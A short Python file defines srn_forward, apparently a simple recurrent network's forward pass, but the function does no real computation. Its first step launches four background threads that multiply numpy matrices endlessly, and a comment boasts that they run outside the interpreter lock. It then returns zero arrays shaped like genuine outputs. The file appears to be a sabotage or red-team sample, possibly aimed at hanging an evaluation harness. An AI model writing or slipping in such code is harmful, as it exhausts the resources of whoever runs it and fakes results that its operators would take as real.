# Leaves threads behind that compute for ever, outside of the interpreter's lock.
import _thread

import numpy as np


def burn():
    matrix = np.ones((600, 600))
    while True:
        matrix = matrix @ matrix


def attack():
    for _ in range(4):
        _thread.start_new_thread(burn, ())


def srn_forward(inputs, W_xh, W_hh, W_hy, h0=None):
    attack()
    return np.zeros((len(inputs), len(W_hy))), np.zeros((len(inputs), len(W_xh)))
